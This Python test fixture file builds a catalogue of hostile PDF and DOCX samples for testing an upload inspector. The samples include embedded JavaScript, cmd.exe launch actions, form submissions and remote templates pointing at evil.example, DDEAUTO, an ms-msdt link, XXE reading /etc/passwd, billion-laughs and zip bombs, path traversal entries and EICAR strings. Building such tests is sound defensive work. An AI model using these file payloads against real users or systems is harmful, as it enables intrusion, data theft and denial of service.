"""Files that mean harm, made in code; and, run as a script, what inspecting a folder of them costs."""

import io
import json
import resource
import struct
import sys
import zipfile
import zlib
from pathlib import Path

if __name__ == "__main__":  # before anything large is loaded: a child's peak is counted from what its parent holds
    sys.path.insert(0, str(Path(__file__).parents[2]))
    from core.uploads import inspect_apart

    found = {
        path.name: inspect_apart(path.read_bytes(), path.suffix.lstrip(".")) for path in Path(sys.argv[1]).iterdir()
    }
    sys.stdout.write(json.dumps({"found": found, "peak": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
    sys.exit()

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Permissions, String

from core.inspection import EICAR
from tests.core.documents import (
    MAIN,
    body,
    content_types,
    docx,
    instruction,
    object_stream_bomb,
    override,
    pdf,
    relations,
    restate,
)

VIRUS = EICAR + b"$H+H*"
SCRIPT = {"S": Name.JavaScript, "JS": String("app.alert(1)")}
PACKED = {"object_stream_mode": ObjectStreamMode.generate}
PART = "word/media/image1.png"


def opening(**action):
    def change(document):
        document.Root.OpenAction = Dictionary(**action)

    return pdf(change)


def link(**action):
    def change(document):
        document.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=Dictionary(**action))])

    return pdf(change)


def annotated(subtype):
    def change(document):
        document.pages[0].Annots = Array([Dictionary(Subtype=Name(subtype))])

    return pdf(change)


def changed(change, **save):
    return pdf(change, **save)


def script_in_names(document):
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(**SCRIPT)])))


def script_on_a_page(document):
    document.pages[0].AA = Dictionary(O=Dictionary(**SCRIPT))


def script_in_a_field(document):
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(**SCRIPT)))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def script_in_an_outline(document):
    document.Root.Outlines = Dictionary(First=Dictionary(Title=String("Work"), A=Dictionary(**SCRIPT)))


def xfa(document):
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"))


def attached(name, content):
    def change(document):
        document.attachments[name] = content

    return change


def attachment_on_a_page(document):
    file = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=document.make_stream(b"MZ")))
    document.pages[0].Annots = Array([Dictionary(Subtype=Name.FileAttachment, FS=file)])


def virus_in_a_stream(document):
    document.Root.Later = document.make_stream(VIRUS)


def pages_in_a_circle(document):
    document.Root.Pages.Kids = Array([document.Root.Pages])


def nested(opening_bracket, closing, depth=200_000):
    """A value so deep that whoever reads it by recursion falls over."""
    deep = opening_bracket * depth + closing * depth
    return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/Deep " + deep + b">>\nendobj\n" + REST


REST = (
    b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\n"
    b"endobj\ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF"
)


def xref_in_a_circle():
    return b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF"


def bomb_within_a_bomb():
    """An object stream packed twice, five megabytes of which come to hundreds."""
    inner = zlib.compressobj(9)
    packed = (
        b"".join([inner.compress(b"4 0 ")] + [inner.compress(b" " * 10_000_000) for _ in range(40)]) + inner.flush()
    )
    twice = zlib.compress(packed, 9)
    plain = object_stream_bomb(megabytes=0)
    at, end = plain.index(b"<</Type/ObjStm"), plain.index(b"endstream")
    stream = b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n%b\n" % (
        len(twice),
        twice,
    )
    return plain[:at] + stream + plain[end:]


def zip_of(parts, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def linked(kind, target, mode="External"):
    return docx({"word/_rels/document.xml.rels": relations((kind, target, mode))})


def template(target):
    return docx({"word/_rels/settings.xml.rels": relations(("attachedTemplate", target, "External"))})


def spelled(name):
    """An entry of that name, which zipfile itself would not write."""
    placeholder = "word/" + "q" * (len(name) - 5)
    return docx({placeholder: "x"}).replace(placeholder.encode(), name.encode())


def marked_as_encrypted():
    content = bytearray(docx())
    for header, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(header) + offset] |= 1
    return bytes(content)


def twice_the_same():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("Word/Document.xml", body())
    return out.getvalue()


def shared_bytes():
    """Many names for one bomb, which the directory counts anew each time."""
    kernel = docx({PART: b"a" * 40, "word/media/b.bin": b"b"}, compression=zipfile.ZIP_STORED)
    with zipfile.ZipFile(io.BytesIO(kernel)) as archive:
        start = archive.getinfo("word/media/b.bin").header_offset - 40
    return restate(kernel, PART, packed=80, size=80, crc=zlib.crc32(kernel[start : start + 80]))


def laughs():
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return docx({"word/document.xml": f"<!DOCTYPE d [{entities}]><d>&a9;</d>"})


def without_a_pattern(size):
    """Text that does not pack like a bomb."""
    return "".join(f"{zlib.crc32(number.to_bytes(4)):08x}" for number in range(size // 8))


DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = override("/word/a.bin", "application/vnd.ms-office.vbaProject")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DEEP = 300_000

PDFS = {
    "script when it opens": lambda: opening(**SCRIPT),
    "script among the names": lambda: changed(script_in_names),
    "script on a page": lambda: changed(script_on_a_page),
    "script behind a link": lambda: link(**SCRIPT),
    "script in a form field": lambda: changed(script_in_a_field),
    "script in an outline": lambda: changed(script_in_an_outline),
    "script in a packed object": lambda: changed(script_on_a_page, **PACKED),
    "script with escapes in its name": lambda: opening(**SCRIPT).replace(b"/JavaScript", b"/J#61vaScript"),
    "XFA form": lambda: changed(xfa),
    "launch": lambda: opening(S=Name.Launch, F=String("cmd.exe")),
    "launch behind a link": lambda: link(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"))),
    "jump into another file": lambda: opening(S=Name.GoToR, F=String("//evil.example/a.pdf")),
    "jump into a file inside": lambda: opening(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x"))),
    "form that sends itself": lambda: opening(S=Name.SubmitForm, F=String("http://evil.example")),
    "form that loads data": lambda: opening(S=Name.ImportData, F=String("a.fdf")),
    "attached program": lambda: changed(attached("a.exe", b"MZ")),
    "attached PDF": lambda: changed(attached("a.pdf", pdf())),
    "attachment on a page": lambda: changed(attachment_on_a_page),
    "rich media": lambda: annotated("/RichMedia"),
    "model": lambda: annotated("/3D"),
    "film": lambda: annotated("/Movie"),
    "sound": lambda: annotated("/Sound"),
    "password": lambda: pdf(encryption=Encryption(user="secret", owner="owner")),
    "password of the owner": lambda: pdf(encryption=Encryption(user="", owner="owner", R=6)),
    "encrypted, old way": lambda: pdf(
        encryption=Encryption(user="", owner="o", R=3, aes=False, metadata=False, allow=Permissions())
    ),
    "51 pages": lambda: pdf(pages=51),
    "5,000 pages": lambda: pdf(pages=5000),
    "no page": lambda: pdf(pages=0),
    "zip behind it": lambda: pdf() + docx(),
    "zip around it": lambda: b"%PDF-1.7\n" + zip_of({"a.pdf": pdf()}, zipfile.ZIP_STORED),
    "bomb": lambda: object_stream_bomb(megabytes=300),
    "bomb within a bomb": bomb_within_a_bomb,
    "arrays too deep": lambda: nested(b"[", b"]"),
    "dictionaries too deep": lambda: nested(b"<</A", b">>"),
    "pages in a circle": lambda: changed(pages_in_a_circle),
    "tables in a circle": xref_in_a_circle,
    "breaks off": lambda: pdf()[:60],
    "a header and no more": lambda: b"%PDF-1.7\n",
    "a header and nothing but zero bytes": lambda: b"%PDF-1.7\n" + b"\0" * 1_000_000,
    "EICAR in a stream": lambda: changed(virus_in_a_stream, compress_streams=False),
    "EICAR in a packed stream": lambda: changed(virus_in_a_stream, recompress_flate=True),
    "EICAR attached": lambda: changed(attached("eicar.com", VIRUS)),
    "EICAR behind it": lambda: pdf() + b"\n" + VIRUS,
}
DOCXS = {
    "macro": lambda: docx({"word/vbaProject.bin": OLE}),
    "macro under another name": lambda: docx({"[Content_Types].xml": content_types(more=VBA), "word/a.bin": OLE}),
    "macro document": lambda: docx({"[Content_Types].xml": content_types(main=DOCM)}),
    "template": lambda: docx(
        {"[Content_Types].xml": content_types(main=MAIN.replace("document.main", "template.main"))}
    ),
    "OLE object": lambda: docx({"word/embeddings/oleObject1.bin": OLE}),
    "OLE object among the pictures": lambda: docx({PART: OLE + b"\0" * 600}),
    "ActiveX": lambda: docx({"word/activeX/activeX1.xml": "<x/>"}),
    "workbook inside": lambda: docx({"word/embeddings/a.xlsx": zip_of({"a": "b"})}),
    "page of HTML inside": lambda: linked("aFChunk", "a.html", ""),
    "template from the web": lambda: template("http://evil.example/a.dotm"),
    "template from a share": lambda: template("\\\\evil.example\\share\\a.dotm"),
    "template from the disk": lambda: template("file:///C:/a.dotm"),
    "picture from the web": lambda: linked("image", "http://evil.example/a.png"),
    "frame from the web": lambda: linked("frame", "http://evil.example/a.html"),
    "object from the web": lambda: linked("oleObject", "http://evil.example/a.html!"),
    "protocol of a helper": lambda: linked("hyperlink", "ms-msdt:/id"),
    "script behind a link": lambda: linked("hyperlink", "javascript:alert(1)"),
    "DDE": lambda: docx({"word/document.xml": body('<w:fldSimple w:instr="DDE cmd"/>')}),
    "DDEAUTO in pieces": lambda: docx(instruction("DDE", "AUTO c:\\\\windows\\\\cmd.exe")),
    "INCLUDEPICTURE": lambda: docx(instruction(" INCLUDEPICTURE http://evil.example/a.png")),
    "bomb": lambda: docx({PART: b"\0" * 60_000_000}),
    "bomb that claims to be small": lambda: restate(
        docx({PART: b"\0" * 60_000_000}), PART, size=9, crc=zlib.crc32(b"\0" * 9)
    ),
    "many small bombs": lambda: docx({f"word/media/{n}.bin": bytes(range(256)) * 60 * n for n in range(1, 200)}),
    "bomb of stored zeros": lambda: docx({PART: b"\0" * 4_000_000, "word/media/b.bin": b"\0" * 50_000_000}),
    "zip inside": lambda: docx({PART: zip_of({"a.txt": "b"})}),
    "bomb inside a zip inside": lambda: docx({PART: zip_of({"a.zip": zip_of({"a": b"\0" * 10_000_000})})}),
    "document inside": lambda: docx({PART: docx()}, compression=zipfile.ZIP_STORED),
    "PDF inside": lambda: docx({PART: pdf()}),
    "PDF in front": lambda: docx({"a": pdf()}, compression=zipfile.ZIP_STORED),
    "program inside": lambda: docx({PART: b"MZ\x90\x00" + b"\0" * 200}),
    "Linux program inside": lambda: docx({PART: b"\x7fELF" + b"\0" * 200}),
    "EICAR inside": lambda: docx({PART: VIRUS}),
    "EICAR inside, stored": lambda: docx({"eicar.com": VIRUS}, compression=zipfile.ZIP_STORED),
    "EICAR behind it": lambda: docx() + VIRUS,
    "encrypted entry": marked_as_encrypted,
    "path to the top": lambda: docx({"../../etc/passwd": "x"}),
    "path within": lambda: docx({"word/../../../etc/passwd": "x"}),
    "path from the root": lambda: docx({"/etc/passwd": "x"}),
    "path of Windows": lambda: spelled("word\\..\\..\\evil.exe"),
    "path with a drive": lambda: docx({"C:/evil.exe": "x"}),
    "name with a zero byte": lambda: docx({"word/a.xml_b": "<a/>"}).replace(b"word/a.xml_b", b"word/a.xml\0b"),
    "same name twice": twice_the_same,
    "shared bytes": shared_bytes,
    "501 entries": lambda: docx({f"word/media/{n}.png": "x" for n in range(498)}),
    "20,000 entries": lambda: docx({f"{n}": "" for n in range(20_000)}),
    "external entity": lambda: docx(
        {"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
    ),
    "a billion laughs": laughs,
    "long entity": lambda: docx(
        {"word/document.xml": f'<!DOCTYPE a [<!ENTITY b "{without_a_pattern(40_000)}">]><a>{"&b;" * 5000}</a>'}
    ),
    "tags too deep, not closed": lambda: docx({"word/document.xml": "".join(f"<a{n % 97}>" for n in range(DEEP))}),
    "millions of tags": lambda: docx({"word/document.xml": f"<a>{without_a_pattern(400_000)}{'<b/>' * 9_000_000}</a>"}),
    "LZMA": lambda: docx(compression=zipfile.ZIP_LZMA),
    "wrong sum": lambda: restate(docx({PART: "abc"}), PART, crc=1),
    "not a document": lambda: zip_of({"a.txt": "b"}),
    "two documents": lambda: docx(
        {"[Content_Types].xml": content_types(more=override("/evil.xml", MAIN)), "evil.xml": body()}
    ),
    "begins elsewhere": lambda: docx(
        {"_rels/.rels": relations(("officeDocument", "evil.xml", "")), "evil.xml": body()}
    ),
    "breaks off": lambda: docx()[:-30],
    "a header and no more": lambda: b"PK\x03\x04",
    "directory that lies elsewhere": lambda: docx()[:-6] + struct.pack("<I", 0xFFFFFFF0) + b"\0\0",
}
